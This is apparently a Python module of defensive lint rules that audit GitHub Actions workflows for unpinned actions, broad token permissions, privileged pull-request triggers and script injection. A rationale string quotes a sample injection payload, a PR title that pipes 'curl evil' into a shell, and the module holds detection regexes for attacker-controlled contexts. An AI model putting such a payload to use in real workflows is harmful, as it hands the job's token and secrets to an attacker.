"""Supply-chain hardening of the workflows themselves."""
from __future__ import annotations

import re

from gate.model import query
from gate.model.location import Location
from gate.rules.base import Context, failed, passed, rule, skipped

_SHA = re.compile(r"@[0-9a-f]{40}$")
# Contexts an outsider controls: interpolated into a script they become code.
_UNTRUSTED = re.compile(
    r"\$\{\{\s*[^}]*?\b("
    r"github\.event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|repo\.default_branch))"
    r"|comment\.body|review\.body|review_comment\.body|pages\.[^}]*?\.page_name|commits\.[^}]*?\.(message|author\.(email|name))"
    r"|head_commit\.(message|author\.(email|name))|workflow_run\.(head_branch|head_commit\.(message|author\.(email|name))|display_title)"
    r"|discussion\.(title|body)|inputs\.[\w-]+|client_payload[^}]*)"
    r"|github\.head_ref"
    r")[^}]*\}\}"
)
_PR_HEAD = re.compile(r"github\.event\.(pull_request\.head\.(sha|ref)|workflow_run\.head_(sha|branch))|github\.head_ref"
                      r"|refs/pull/")


def _line_in(script: str, base: int, offset: int) -> int:
    """The file line of `offset` in a block scalar that starts below its key at `base`."""
    if "\n" not in script.rstrip("\n"):
        return base
    return base + 1 + script.count("\n", 0, offset)


def third_party_uses(ev):
    """(Location, uses) for every `uses:` in workflow files outside actions/* and ./ ."""
    out = []
    for wf in ev.workflows.workflows.values():
        for job in wf.jobs.values():
            if job.uses and not job.uses.startswith("./"):
                out.append((job.loc, job.uses))
            for step in job.steps:
                if step.via is None and step.uses and not step.uses.startswith(("./", "actions/", "docker://")):
                    out.append((step.loc, step.uses))
    return out


@rule(
    id="hardening.pinned-actions", severity="warning",
    title="Third-party actions are pinned to a commit SHA",
    rationale="""A tag or branch can be moved to malicious code at any time (tj-actions/changed-files,
    2025); only a full commit SHA fixes what runs with your secrets.""",
    remediation="Pin each third-party `uses:` to a full 40-character commit SHA with the version in a comment (`@<sha> # v4.2.1`).",
)
def pinned_actions(ev, ctx: Context):
    """Every job- and step-level `uses:` outside `actions/*` and `./` ends in `@<40-hex sha>`."""
    uses = third_party_uses(ev)
    if not uses:
        return skipped("No third-party actions or reusable workflows are used.")
    unpinned = [(loc, u) for loc, u in uses if not _SHA.search(u)]
    if unpinned:
        return failed(f"{len(unpinned)} of {len(uses)} third-party `uses:` are not pinned to a commit SHA; "
                      f"first: {unpinned[0][1]} at {unpinned[0][0]}.",
                      *(loc for loc, _ in unpinned), details=[f"{loc}: {u}" for loc, u in unpinned])
    return passed(f"All {len(uses)} third-party `uses:` are pinned to commit SHAs.")


def _write_all(perms) -> bool:
    return isinstance(perms, str) and perms.strip() == "write-all"


@rule(
    id="hardening.token-permissions", severity="warning",
    title="Workflow token permissions are set and least-privilege",
    rationale="""Without a top-level `permissions:` block the GITHUB_TOKEN gets the repository's
    default, often write to everything; a compromised step then can push code or releases.""",
    remediation="Add `permissions: contents: read` at the top of each workflow and grant writes per job where needed.",
)
def token_permissions(ev, ctx: Context):
    """Every workflow sets top-level `permissions:`; none grants `write-all`."""
    if not ev.workflows.workflows:
        return skipped("No workflows.")
    missing = [wf for wf in ev.workflows.workflows.values() if not wf.has_permissions]
    write_all = [wf.permissions_loc for wf in ev.workflows.workflows.values() if _write_all(wf.permissions)]
    write_all += [Location(job.loc.path, job.loc.line) for _, job in ev.workflows.all_jobs() if _write_all(job.permissions)]
    if missing or write_all:
        parts = []
        if missing:
            parts.append(f"{len(missing)} workflow(s) without top-level `permissions:` (first: {missing[0].path})")
        if write_all:
            parts.append(f"`write-all` at {write_all[0]}")
        return failed("; ".join(parts) + ".", *(wf.loc for wf in missing), *write_all)
    return passed(f"All {len(ev.workflows.workflows)} workflow(s) set top-level permissions.")


@rule(
    id="hardening.dangerous-triggers", severity="blocker",
    title="Privileged triggers never run pull-request code",
    rationale="""`pull_request_target` and `workflow_run` run with secrets and a write token;
    checking out and running a fork's code there hands both to the fork's author ("pwn request").""",
    remediation="""Use `pull_request` for untrusted code, or keep the privileged workflow to
    artifacts and metadata: never check out the PR head there.""",
)
def dangerous_triggers(ev, ctx: Context):
    """Fails where a pull_request_target/workflow_run workflow checks out the PR head and runs anything after it."""
    if not ev.workflows.workflows:
        return skipped("No workflows.")
    hits = []
    for wf in ev.workflows.workflows.values():
        if not ({"pull_request_target", "workflow_run"} & set(wf.triggers)):
            continue
        for job in wf.jobs.values():
            steps = job.steps
            for i, step in enumerate(steps):
                if not (step.uses or "").startswith("actions/checkout"):
                    continue
                ref = str(step.with_.get("ref", "")) + str(step.with_.get("repository", ""))
                if _PR_HEAD.search(ref) and any(s.run or (s.uses and not s.uses.startswith("actions/upload"))
                                                for s in steps[i + 1:]):
                    hits.append(step.loc)
            for step in steps:
                if step.run and re.search(r"gh\s+pr\s+checkout|git\s+(fetch|checkout)[^\n]*(pull/|head_ref|head\.ref|head_sha)", step.run):
                    hits.append(step.loc)
    if hits:
        return failed(f"Pull-request code is checked out in a privileged workflow at {hits[0]}.", *hits)
    return passed("No privileged trigger checks out pull-request code.")


@rule(
    id="hardening.script-injection", severity="blocker",
    title="No attacker-controlled expressions inside scripts",
    rationale="""`${{ github.event.pull_request.title }}` in `run:` is pasted into the shell before it
    runs: a title like `"; curl evil | sh #` becomes code with the job's token.""",
    remediation="Pass the value through `env:` (`TITLE: ${{ github.event.pull_request.title }}`) and use \"$TITLE\" in the script.",
)
def script_injection(ev, ctx: Context):
    """Finds untrusted contexts (titles, bodies, branch names, commit messages, inputs of
    dispatch/issue events) interpolated into `run:` or github-script `script:`."""
    if not ev.workflows.workflows:
        return skipped("No workflows.")
    hits = []
    for wf in ev.workflows.workflows.values():
        for job in wf.jobs.values():
            for step in job.steps:
                script, base = step.run, None
                if script is None and (step.uses or "").startswith("actions/github-script"):
                    script = step.with_.get("script") if isinstance(step.with_.get("script"), str) else None
                    line_of = getattr(step.with_, "line_of", None)
                    base = line_of("script") if line_of else step.loc.line
                if not script:
                    continue
                for m in _UNTRUSTED.finditer(script):
                    # workflow_dispatch inputs come from people with write access: only flag them
                    # where anyone can trigger the workflow
                    if m.group(1).startswith("inputs.") and not ({"issue_comment", "pull_request_target", "issues"} & set(wf.triggers)):
                        continue
                    line = step.line_in_run(m.start()) if step.run else _line_in(script, base, m.start())
                    hits.append((Location(step.loc.path, line), m.group(0)))
    if hits:
        return failed(f"{len(hits)} untrusted expression(s) inside scripts; first {hits[0][1]} at {hits[0][0]}.",
                      *(loc for loc, _ in hits), details=[f"{loc}: {expr}" for loc, expr in hits])
    return passed("No attacker-controlled expressions inside scripts.")
